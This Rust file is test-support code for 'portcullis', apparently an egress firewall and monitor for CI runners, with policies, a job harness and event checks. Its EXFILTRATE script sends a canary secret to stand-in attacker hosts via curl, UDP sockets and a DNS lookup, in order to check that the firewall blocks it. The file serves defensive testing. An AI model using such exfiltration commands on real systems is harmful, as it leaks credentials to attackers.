//! What the tests of a job's life have in common: a world with a gate in it, and jobs that do one thing after the other
//! as the test says.

// Every test file is a program of its own and uses its own part of this.
#![expect(dead_code, reason = "each test file uses a part of it")]

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{
    DetectionEvent, DnsEvent, Event, EventKind, JobStage, NetworkEvent, PostureEvent, Verdict,
};
use portcullis_common::report::Report;
use portcullis_tests::world::{Monitor, MonitorOptions, Runner, RunningJob};
use portcullis_tests::{Canary, Job, JobResult, World, wait_for, wait_until};
use std::fs;
use std::os::unix::fs::chown;
use std::path::PathBuf;

/// Blocks all but the name `ok.test` and what is below `wild.test`; for `octo/hello`.
pub(crate) const BLOCK: &str = "
name: hello-block
egress-policy: block
allowed-endpoints:
  - ok.test:443
  - ok.test:80
  - '*.wild.test:443'
attach:
  - repository: octo/hello
";

/// Records calls, and ends the job for everything that Lockdown Mode knows.
pub(crate) const AUDIT: &str = "
name: hello-audit
egress-policy: audit
lockdown-mode:
  enabled: true
  detections: [Reverse-Shell, Runner-Worker-Memory-Read, Privileged-Container]
attach:
  - repository: octo/hello
";

/// A world whose runners have the hooks, with a monitor.
pub(crate) struct Gate {
    pub(crate) world: World,
    pub(crate) monitor: Monitor,
    pub(crate) canary: Canary,
}

impl Gate {
    /// Policies as (file name, document).
    pub(crate) fn up(world: World, policies: &[(&str, &str)]) -> Result<Self> {
        Self::with(world, policies, MonitorOptions::default())
    }

    pub(crate) fn with(
        world: World,
        policies: &[(&str, &str)],
        options: MonitorOptions,
    ) -> Result<Self> {
        for (name, document) in policies {
            world.write_policy(name, document)?;
        }
        world.install_hooks()?;
        let monitor = world.monitor(options)?;
        Ok(Self { world, monitor, canary: Canary::generate()? })
    }

    /// A job of `octo/hello` whose environment has the secret in `S`.
    pub(crate) fn job(&self, script: &str) -> Job {
        Job::script(script).secret("S", self.canary.as_str())
    }

    /// Runs a job on the first runner and waits until nothing is left of it.
    pub(crate) fn run(&self, job: &Job) -> Result<JobResult> {
        let result = self.world.runner(0).run(job)?;
        self.monitor.wait_until_idle()?;
        Ok(result)
    }

    /// The events of the job that was started last.
    pub(crate) fn last_events(&self) -> Result<Vec<Event>> {
        let id = self.world.job_ids()?.pop().context("no job has left events")?;
        self.world.events(&id)
    }

    /// The report of the job that was started last, as it is on disk once the job is over.
    pub(crate) fn last_report(&self) -> Result<Report> {
        let id = self.world.job_ids()?.pop().context("no job has left a report")?;
        read_report(&self.world, &id)
    }

    /// Nothing of the attack arrived, and what the test shows when it did.
    pub(crate) fn assert_contained(&self, result: &JobResult) -> Result<()> {
        self.world
            .attacker()
            .assert_untouched(&self.canary)
            .with_context(|| format!("{}\n{}", result.log(), self.monitor.log()))
    }
}

pub(crate) fn read_report(world: &World, id: &str) -> Result<Report> {
    let path = world.root().join("var/lib/portcullis/spool").join(id).join("report.json");
    let text = wait_for("the job's report", || fs::read_to_string(&path).ok())?;
    Ok(serde_json::from_str(&text)?)
}

/// The names of the nftables tables in the runner host's network namespace that are ours.
pub(crate) fn our_tables(world: &World) -> Result<Vec<String>> {
    let listed = world.runner_network().tool("nft", &["list", "tables"], None)?;
    Ok(listed.lines().filter(|line| line.contains("portcullis")).map(str::to_owned).collect())
}

/// The cgroups of jobs below the runner's.
pub(crate) fn job_groups(runner: &Runner) -> Vec<String> {
    let entries = fs::read_dir(runner.cgroup().path()).into_iter().flatten().flatten();
    entries
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with("portcullis-"))
        .collect()
}

/// Nothing that the monitor makes for a job is there any more. A Worker that was killed is gone for its runner a moment
/// before the monitor has removed the rest, so this waits.
pub(crate) fn assert_nothing_left(world: &World) -> Result<()> {
    let mut last = Ok(());
    let gone = wait_until("nothing of the job to be left", || {
        last = find_left(world);
        last.is_ok()
    });
    last.and(gone)
}

fn find_left(world: &World) -> Result<()> {
    ensure!(our_tables(world)?.is_empty(), "rules are left: {:?}", our_tables(world)?);
    for runner in world.runners() {
        ensure!(job_groups(runner).is_empty(), "groups are left: {:?}", job_groups(runner));
    }
    let jobs = world.root().join("run/portcullis/jobs");
    let left: Vec<_> = fs::read_dir(&jobs).into_iter().flatten().flatten().collect();
    ensure!(left.is_empty(), "the state of jobs is left: {left:?}");
    Ok(())
}

pub(crate) fn network(events: &[Event]) -> impl Iterator<Item = &NetworkEvent> {
    events.iter().filter_map(|event| match &event.kind {
        EventKind::Network(network) => Some(network),
        _ => None,
    })
}

pub(crate) fn dns(events: &[Event]) -> impl Iterator<Item = &DnsEvent> {
    events.iter().filter_map(|event| match &event.kind {
        EventKind::Dns(dns) => Some(dns),
        _ => None,
    })
}

pub(crate) fn detections(events: &[Event]) -> impl Iterator<Item = &DetectionEvent> {
    events.iter().filter_map(|event| match &event.kind {
        EventKind::Detection(detection) => Some(detection),
        _ => None,
    })
}

pub(crate) fn postures(events: &[Event]) -> impl Iterator<Item = &PostureEvent> {
    events.iter().filter_map(|event| match &event.kind {
        EventKind::Posture(posture) => Some(posture),
        _ => None,
    })
}

pub(crate) fn has_stage(events: &[Event], stage: JobStage) -> bool {
    events.iter().any(|event| matches!(&event.kind, EventKind::Job(job) if job.stage == stage))
}

/// A blocked call to this address and port whose process is known by pid, executable and ancestors.
pub(crate) fn blocked_by(events: &[Event], address: &str, port: u16, program: &str) -> bool {
    network(events).any(|event| {
        event.verdict == Verdict::Blocked
            && event.address.to_string() == address
            && event.port == Some(port)
            && event.process.as_ref().is_some_and(|process| {
                process.pid.is_some()
                    && process.exe.as_deref().is_some_and(|exe| exe.contains(program))
                    && !process.argv.is_empty()
                    && process.ancestors.iter().any(|above| above.exe.ends_with("Runner.Worker"))
            })
    })
}

/// `seq` counts from 1 without gaps.
pub(crate) fn assert_gapless(events: &[Event]) {
    let numbers: Vec<u64> = events.iter().map(|event| event.seq).collect();
    let expected: Vec<u64> = (1..=numbers.len() as u64).collect();
    assert_eq!(numbers, expected);
}

/// A job that does what the test tells it, one script after the other, each in the same shell.
pub(crate) struct Puppet<'a> {
    pub(crate) job: RunningJob<'a>,
    directory: PathBuf,
    count: u32,
}

/// What a script of a [`Puppet`] did.
#[derive(Debug)]
pub(crate) struct Done {
    pub(crate) status: i32,
    pub(crate) output: String,
}

impl Done {
    pub(crate) fn succeeded(&self) -> bool {
        self.status == 0
    }
}

const PUPPET: &str = r#"
n=1
while :; do
    until [ -e "$PUPPET/go.$n" ]; do sleep 0.02; done
    if [ -e "$PUPPET/end" ]; then break; fi
    set +e
    . "$PUPPET/script.$n" >"$PUPPET/out.$n" 2>&1
    echo $? >"$PUPPET/rc.$n.new"
    mv "$PUPPET/rc.$n.new" "$PUPPET/rc.$n"
    n=$((n + 1))
done
"#;

impl<'a> Puppet<'a> {
    /// Starts it on a runner; returns when its first step runs, so that the started hook is over.
    pub(crate) fn start(gate: &'a Gate, runner: usize, repository: &str) -> Result<Self> {
        Self::start_in(&gate.world, runner, repository, &gate.canary)
    }

    pub(crate) fn start_in(
        world: &'a World,
        runner: usize,
        repository: &str,
        canary: &Canary,
    ) -> Result<Self> {
        let runner = world.runner(runner);
        let directory =
            tempfile::Builder::new().prefix("puppet-").tempdir_in(world.directory())?.keep();
        chown(&directory, Some(runner.uid()), Some(runner.uid()))?;
        let job = Job::script(PUPPET)
            .repository(repository)
            .env("PUPPET", &directory.display().to_string())
            .secret("S", canary.as_str());
        let job = runner.begin(&job)?;
        let mut puppet = Self { job, directory, count: 0 };
        let first = puppet.run("true").context("the job's first step does not run")?;
        ensure!(first.succeeded());
        Ok(puppet)
    }

    /// Runs a script to its end.
    pub(crate) fn run(&mut self, script: &str) -> Result<Done> {
        self.begin(script)?;
        self.wait()
    }

    /// Starts a script.
    pub(crate) fn begin(&mut self, script: &str) -> Result<()> {
        self.count += 1;
        let file = |name: &str| self.directory.join(format!("{name}.{}", self.count));
        fs::write(file("script"), script)?;
        fs::write(file("go"), "")?;
        Ok(())
    }

    /// Waits for the script that was started last.
    pub(crate) fn wait(&self) -> Result<Done> {
        let file = |name: &str| self.directory.join(format!("{name}.{}", self.count));
        let output = || fs::read(file("out")).unwrap_or_default();
        let status = wait_for("a script of the job to end", || {
            fs::read_to_string(file("rc")).ok().and_then(|text| text.trim().parse().ok())
        })
        .with_context(|| {
            format!(
                "its output: {}\nthe job's: {}",
                String::from_utf8_lossy(&output()),
                self.job.lines().join("\n")
            )
        })?;
        Ok(Done { status, output: String::from_utf8_lossy(&output()).into_owned() })
    }

    /// Ends the job.
    pub(crate) fn finish(mut self) -> Result<JobResult> {
        self.count += 1;
        fs::write(self.directory.join("end"), "")?;
        fs::write(self.directory.join(format!("go.{}", self.count)), "")?;
        self.job.wait()
    }
}

/// A script that calls an allowed name; fails when it can't.
pub(crate) fn call(name: &str) -> String {
    format!("curl -sS --max-time 10 -o /dev/null https://{name}/")
}

/// A script that sends the secret to the attacker in several ways; always succeeds.
pub(crate) const EXFILTRATE: &str = r#"
set +e
curl -sS --max-time 3 "https://evil.test/$S"
curl -sSk --max-time 3 "https://203.0.113.66/$S"
curl -sSk --max-time 3 "https://[2001:db8::66]/$S"
python3 - <<'END'
import os, socket
secret = os.environ["S"].encode()
for family, address in ((socket.AF_INET, "203.0.113.66"), (socket.AF_INET6, "2001:db8::66")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.sendto(secret, (address, 9999))
    except OSError as error:
        print("sendto:", error)
try:
    socket.getaddrinfo(os.environ["S"] + ".evil.test", 443)
except OSError as error:
    print("getaddrinfo:", error)
END
true
"#;

/// Waits until the process is gone.
pub(crate) fn wait_gone(pid: u32) -> Result<()> {
    wait_until(&format!("process {pid} to be gone"), || {
        fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |stat| {
            stat.rsplit_once(") ").is_some_and(|(_, rest)| rest.starts_with('Z'))
        })
    })
}

/// The text of a job summary as GitHub shows it.
pub(crate) fn shown(markdown: &str) -> String {
    let mut out = String::new();
    let mut rest = markdown;
    while let Some((before, after)) = rest.split_once("&#") {
        out.push_str(before);
        let Some((digits, after)) = after.split_once(';') else { break };
        match digits.parse().ok().and_then(char::from_u32) {
            // The zero-width space that keeps text from becoming a link.
            Some('\u{200b}') | None => {}
            Some(character) => out.push(character),
        }
        rest = after;
    }
    out + rest
}
